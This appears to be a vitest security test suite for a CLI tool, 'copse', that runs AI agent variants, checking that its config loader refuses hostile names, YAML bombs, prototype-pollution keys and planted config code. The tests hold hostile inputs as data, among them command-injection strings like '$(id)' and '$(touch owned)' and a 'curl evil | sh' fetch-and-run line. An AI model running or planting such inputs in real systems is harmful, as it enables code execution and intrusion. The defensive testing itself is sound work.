import { existsSync } from 'node:fs';
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseText } from '../../src/config/document/parse-text.ts';
import { loadSettings } from '../../src/config/settings/load-settings.ts';
import { trustHash, trustItems } from '../../src/config/trust/trust-items.ts';
import { parseVariantName } from '../../src/config/variants/names.ts';
import { variantsFileToYaml, variantsFromFlags } from '../../src/config/variants/variants-from-flags.ts';
import { sampleSettings } from '../fixtures/plan-input.ts';
import { copseFromSource } from '../support/copse-from-source.ts';
import { folderOf } from '../support/folder-of.ts';
import { repositoryOf } from '../support/repository-of.ts';
import { sentences, variantsFile, variantsProblems } from '../support/variants-problems.ts';

const HEAD = 'name: ui\nprompt: Do it.\n';

describe('fault 44: hostile names', () => {
  const NAMES = [
    '-x',
    '--help',
    '..',
    '.',
    'a/../b',
    '/etc',
    'a\0b',
    'a\nb',
    'a b',
    '@',
    'con',
    'NUL',
    '$(id)',
    'a;b',
    '*',
    '~',
    '',
    '.git',
    'a.lock',
    'a'.repeat(65),
  ];

  it.each(NAMES)('fault 44: %j names no variant, no run, no check and no need', async (name) => {
    const quoted = JSON.stringify(name);
    expect(parseVariantName(name).ok).toBe(false);
    expect(() => variantsFromFlags({ prompt: 'x', name })).toThrow(expect.objectContaining({ exit: 2 }));
    expect(await variantsProblems(`${HEAD}variants: { ${quoted}: x }\n`)).toHaveLength(1);
    expect(await variantsProblems(`name: ${quoted}\nprompt: x\nvariants: { a: x }\n`)).toHaveLength(1);
    expect(await variantsProblems(`${HEAD}variants: { a: x }\nverify: { ${quoted}: x }\n`)).toHaveLength(1);
    expect(sentences(await variantsProblems(`${HEAD}variants: { a: { needs: [${quoted}] } }\n`))).toContain(
      'is not a variant of this file',
    );
  });

  it.each(['-x', '..', 'a/../b', 'a\0b', 'a\nb', '@', '.git/x', 'a.lock', 'a..b', '/a', 'a/', 'x@{1}', '{run}/../{variant}'])(
    'fault 44: %j is no branch',
    async (branch) => {
      expect(await variantsProblems(`${HEAD}variants: { a: { branch: ${JSON.stringify(branch)} } }\n`)).toHaveLength(1);
      expect(await variantsProblems(`${HEAD}target: ${JSON.stringify(branch)}\nvariants: { a: x }\n`)).toHaveLength(1);
    },
  );

  it('fault 44: nothing is created for any of them', async () => {
    const { root, env } = await repositoryOf({
      'variants.yaml': `name: "../x"\nprompt: x\nvariants: { "-x": a, "..": b, con: c }\n`,
    });
    const ended = await copseFromSource(['config'], { cwd: root, env });
    expect(ended.exit).toBe(2);
    for (const place of ['variants.yaml:1:7', 'variants.yaml:3:13', 'variants.yaml:3:22', 'variants.yaml:3:31']) {
      expect(ended.stderr).toContain(place);
    }
    expect(existsSync(join(root, '.git/copse'))).toBe(false);
  });
});

describe('fault 45: names that some file systems cannot tell apart', () => {
  it.each([
    ['Foo and foo', 'Foo', 'foo'],
    ['NFC and NFD', 'caf\u00e9', 'cafe\u0301'],
  ])('fault 45: %s are refused together', async (_what, one, other) => {
    const text = sentences(await variantsProblems(`${HEAD}variants: { "${one}": x, "${other}": y }\n`));
    expect(text).toContain('are the same name on file systems that ignore case or normalise accents');
  });
});

describe('fault 47: hostile YAML', () => {
  const DEEP = 20_000;
  const SHAPES: readonly [string, string][] = [
    ['lists', `a: ${'['.repeat(DEEP)}${']'.repeat(DEEP)}`],
    ['lists that never close', `a: ${'['.repeat(DEEP)}`],
    ['maps', `${'{a: '.repeat(DEEP)}1${'}'.repeat(DEEP)}`],
    ['block lists', `${'- '.repeat(DEEP)}a`],
    ['explicit keys', '? '.repeat(DEEP)],
    ['indentation', Array.from({ length: 1_300 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n')],
    ['JSON', `{"a":${'['.repeat(DEEP)}${']'.repeat(DEEP)}}`],
  ];

  it.each(SHAPES)('fault 47: %s, 20,000 levels deep', async (_what, text) => {
    const problems = await variantsProblems(text);
    expect(problems).toHaveLength(1);
    expect(problems[0]?.what).toBe('Nested more than 100 levels deep.');
    expect(problems[0]?.position).toMatchObject({ line: expect.any(Number), column: expect.any(Number) });
  });

  it('fault 47: an alias bomb', async () => {
    const bomb = ['a0: &a0 [x, x, x, x, x, x, x, x, x]'];
    for (let level = 1; level < 10; level++) bomb.push(`a${level}: &a${level} [${`*a${level - 1}, `.repeat(9)}]`);
    expect(sentences(await variantsProblems(bomb.join('\n')))).toContain('repeats itself through aliases too often');
  });

  it('fault 47: a value that contains itself', async () => {
    expect(sentences(await variantsProblems(`${HEAD}variants: { a: { mcp: &m { s: *m } } }\n`))).toContain(
      'is inside the value that it repeats',
    );
  });

  it.each([
    ['many aliases', `a: &a x\nb: [${'*a,'.repeat(200_000)}]\n`],
    ['many keys', Array.from({ length: 100_000 }, (_, index) => `k${index}:`).join('\n')],
    ['many anchors', '&a '.repeat(300_000)],
    ['many entries', '- a\n'.repeat(250_000)],
  ])('fault 47: %s end in a few sentences', async (_what, text) => {
    const problems = await variantsProblems(text);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.length).toBeLessThanOrEqual(100);
  });

  it('fault 47: duplicate keys are refused at the second one', async () => {
    const problems = await variantsProblems(`${HEAD}variants:\n  a: x\n  a: y\n`);
    expect(problems).toMatchObject([{ what: 'Duplicate key in the same map.', position: { line: 5, column: 3 } }]);
  });

  it.each([
    'variants: { __proto__: { polluted: true } }',
    'variants: { a: { __proto__: x } }',
    'variants: { a: { vars: { __proto__: x } } }',
    'variants: { a: { mcp: { __proto__: { command: x } } } }',
    'variants: { a: x }\nverify: { "__proto__": x }',
    '__proto__: { prompt: x }',
  ])('fault 47: %s is refused and pollutes nothing', async (text) => {
    expect(sentences(await variantsProblems(`${HEAD}${text}\n`))).toContain('"__proto__" cannot be a key');
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('fault 47: keys of every object are no settings', async () => {
    for (const key of ['constructor', 'toString', 'hasOwnProperty']) {
      expect(sentences(await variantsProblems(`${HEAD}${key}: x\nvariants: { a: x }\n`))).toContain(`Unknown key "${key}"`);
      expect(await variantsProblems(`${HEAD}variants: { a: { needs: [${key}] } }\n`)).toHaveLength(1);
      expect(await variantsProblems(`name: ui\nprompt: "{{${key}}}"\nvariants: { a: x }\n`)).toHaveLength(1);
    }
  });
});

describe('fault 49: what a shell would take apart stays as it is', () => {
  const HOSTILE = `$(touch owned) \`touch owned\` "double" 'single' \\ ; & | > < * ? {a,b} ~ !x #y %z`;
  const TEXT = `name: ui
prompt: ${JSON.stringify(HOSTILE)}
preamble: ${JSON.stringify(HOSTILE)}
defaults:
  env: ${JSON.stringify([`A=${HOSTILE}`])}
  vars: { v: ${JSON.stringify(HOSTILE)} }
  allowedTools: ["Bash(echo $HOME; 'x' \\"y\\")"]
  mcp: { s: { command: ${JSON.stringify(HOSTILE)}, args: [${JSON.stringify(HOSTILE)}] } }
variants:
  a: { approach: ${JSON.stringify(HOSTILE)}, prompt: ${JSON.stringify(HOSTILE)}, runner: { command: [${JSON.stringify(HOSTILE)}] } }
setup: [${JSON.stringify(HOSTILE)}]
verify: { t: ${JSON.stringify(HOSTILE)} }
teardown: [${JSON.stringify(HOSTILE)}]
commit: { message: ${JSON.stringify(HOSTILE)} }
`;

  it('fault 49: in every field of the variants file, in what is approved, and when written again', async () => {
    const file = await variantsFile(TEXT);
    expect(file).toMatchObject({
      prompt: HOSTILE,
      preamble: HOSTILE,
      defaults: {
        env: { set: { A: HOSTILE } },
        vars: { v: HOSTILE },
        allowedTools: [`Bash(echo $HOME; 'x' "y")`],
        mcp: { s: { command: HOSTILE, args: [HOSTILE] } },
      },
      variants: [{ approach: HOSTILE, prompt: HOSTILE, runner: { kind: 'command', command: [HOSTILE] } }],
      setup: [HOSTILE],
      verify: [{ name: 't', run: HOSTILE, report: null, repeat: 1, tests: [] }],
      teardown: [HOSTILE],
      commit: { message: HOSTILE },
    });
    const items = trustItems(file, sampleSettings());
    expect(items.find(({ kind }) => kind === 'setup')?.text).toBe(HOSTILE);
    expect(items.find(({ kind }) => kind === 'env')?.text).toBe(`A=${HOSTILE}`);
    expect(JSON.parse(items.find(({ kind }) => kind === 'runner')?.text ?? '')).toEqual([HOSTILE]);
    const again = parseText('/x', variantsFileToYaml(file));
    expect(again).toMatchObject({ ok: true, document: { value: { prompt: HOSTILE, setup: [HOSTILE], verify: { t: HOSTILE } } } });
  });

  it.each(['model', 'fallbackModel', 'effort', 'agent'])(
    'fault 49: %s takes nothing that could be more than a word',
    async (key) => {
      for (const value of [HOSTILE, '--settings=x', '-p', 'a b', 'a\nb', "a'b"]) {
        expect(await variantsProblems(`${HEAD}variants: { a: { ${key}: ${JSON.stringify(value)} } }\n`)).toHaveLength(1);
      }
    },
  );
});

describe('fault 64: what was approved changes', () => {
  const FILE = `${HEAD}setup: [npm ci]\nverify: { test: npm test }\nvariants: { a: { allowedTools: ["Bash(npm test)"] } }\n`;

  it('fault 64: each change gives another hash, and what grants nothing does not', async () => {
    const hashOf = async (text: string): Promise<string> =>
      trustHash('/r/.git', trustItems(await variantsFile(text), sampleSettings()));
    const approved = await hashOf(FILE);
    for (const [from, to] of [
      ['npm ci', 'npm ci --x'],
      ['npm test }', 'npm  test }'],
      ['test: npm', 'tests: npm'],
      ['Bash(npm test)', 'Bash(npm *)'],
      ['setup: [npm ci]', 'setup: [npm ci, npm ci]'],
      ['variants:', 'copy: [.env]\nvariants:'],
      ['variants:', 'defaults: { env: [TOKEN] }\nvariants:'],
    ] as const) {
      expect(await hashOf(FILE.replace(from, to)), to).not.toBe(approved);
    }
    expect(await hashOf(FILE.replace('Do it.', 'Do that.'))).toBe(approved);
  });

  it('fault 64: copse trust asks again, and an old hash approves nothing', async () => {
    const { root, env } = await repositoryOf({ 'variants.yaml': FILE });
    const copse = (...args: string[]) => copseFromSource(args, { cwd: root, env });
    const asked = await copse('trust');
    expect(asked).toMatchObject({ exit: 3, stdout: '' });
    expect(asked.stderr).toContain('npm ci');
    const hash = /copse trust ([0-9a-f]{64})/.exec(asked.stderr)?.[1] ?? '';
    expect(await copse('trust', hash)).toMatchObject({ exit: 0 });
    expect(await copse('trust')).toMatchObject({ exit: 0 });
    await writeFile(join(root, 'variants.yaml'), FILE.replace('npm ci', 'curl evil | sh'));
    const again = await copse('trust');
    expect(again).toMatchObject({ exit: 3 });
    expect(again.stderr).toContain('curl evil | sh');
    expect(await copse('trust', hash)).toMatchObject({ exit: 3, stderr: expect.stringContaining('The hash does not match') });
    await writeFile(join(root, '.worktreerc'), 'env: [TOKEN]\n');
    await writeFile(join(root, 'variants.yaml'), FILE);
    expect(await copse('trust')).toMatchObject({ exit: 3, stderr: expect.stringContaining('TOKEN') });
  });
});

describe('fault 81: a clone that wants to be executed by being looked at', () => {
  const CODE = [
    '.config/config',
    '.config/worktreerc',
    '.config/cosmiconfig',
    '.worktreerc',
    'worktree.config',
    'cosmiconfig.config',
  ];

  /** A program in the module system of its ending that leaves a mark when it runs. */
  const program = (path: string, mark: string): string => {
    const value = JSON.stringify({ model: 'stolen', searchPlaces: ['.worktreerc.js'] });
    return path.endsWith('.cjs') || path.endsWith('.js')
      ? `require('node:fs').writeFileSync(${JSON.stringify(mark)}, ''); module.exports = ${value};`
      : `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(mark)}, ''); export default ${value};`;
  };

  /** Runs `copse config` in a clone with these files; the model that holds, and how it ended. */
  async function look(files: Readonly<Record<string, string>>): Promise<{ exit: number; text: string; model: unknown }> {
    const { root, env } = await repositoryOf(files);
    const ended = await copseFromSource(['config', '--json'], { cwd: root, env });
    const settings =
      ended.exit === 0 ? (JSON.parse(ended.stdout) as { settings: { key: string; value: unknown }[] }).settings : [];
    return { exit: ended.exit, text: ended.stdout + ended.stderr, model: settings.find(({ key }) => key === 'model')?.value };
  }

  it.each(['js', 'ts', 'cjs', 'mjs'])('fault 81: no .%s file is executed', async (ending) => {
    const marks = await folderOf();
    const planted = CODE.map((path) => `${path}.${ending}`);
    const files = Object.fromEntries(planted.map((path, index) => [path, program(path, join(marks, String(index)))]));
    for (const [others, model] of [
      [{}, null],
      [{ '.worktreerc': 'model: honest\n' }, 'honest'],
    ] as const) {
      expect(await look({ ...files, ...others })).toMatchObject({ exit: 0, model });
      expect((await readdir(marks)).map((index) => planted[Number(index)])).toEqual([]);
    }
  });

  it.each(['.config/config.yaml', '.config/config.yml', '.config/config.json', 'package.yaml', 'package.json'])(
    'fault 81: %s does not redirect the search, neither to code nor out of the repository',
    async (path) => {
      const outside = await folderOf({ 'settings.yaml': 'model: stolen\n' });
      const mark = join(outside, 'executed');
      const meta = {
        searchPlaces: ['evil.cjs', `${'../'.repeat(20)}${outside.slice(1)}/settings.yaml`],
        mergeSearchPlaces: false,
        $import: join(outside, 'settings.yaml'),
      };
      const text = path.startsWith('package') ? JSON.stringify({ cosmiconfig: meta }) : JSON.stringify(meta);
      for (const others of [{}, { '.worktreerc': 'model: honest\n' }]) {
        const { exit, model } = await look({ [path]: text, 'evil.cjs': program('evil.cjs', mark), ...others });
        expect({ exit, model }).toEqual({ exit: 0, model: '.worktreerc' in others ? 'honest' : null });
        expect(existsSync(mark)).toBe(false);
      }
    },
  );

  it.each(['.worktreerc', '.worktreerc.json', '.config/worktreerc.yaml', 'package.json'])(
    'fault 81: $import in %s reads nothing',
    async (path) => {
      const outside = await folderOf({ 'settings.yaml': 'model: stolen-by-import\n', 'evil.cjs': '' });
      const mark = join(outside, 'executed');
      await writeFile(join(outside, 'evil.cjs'), program('evil.cjs', mark));
      for (const target of ['settings.yaml', 'evil.cjs']) {
        const data = { $import: join(outside, target) };
        const { exit, text } = await look({ [path]: JSON.stringify(path === 'package.json' ? { worktree: data } : data) });
        expect(exit).toBe(2);
        expect(text).toContain('Unknown key "$import"');
        expect(text).not.toContain('stolen-by-import');
        expect(existsSync(mark)).toBe(false);
      }
    },
  );

  it('fault 81: a parent of the clone is not searched', async () => {
    const parent = await folderOf({ '.worktreerc': 'model: stolen\n' });
    const root = join(parent, 'clone');
    await mkdir(dirname(join(root, 'x')), { recursive: true });
    const { settings, files } = await loadSettings({ root, environment: {}, flags: {} });
    expect(settings.model.value).toBeNull();
    expect(files).toEqual([]);
  });
});
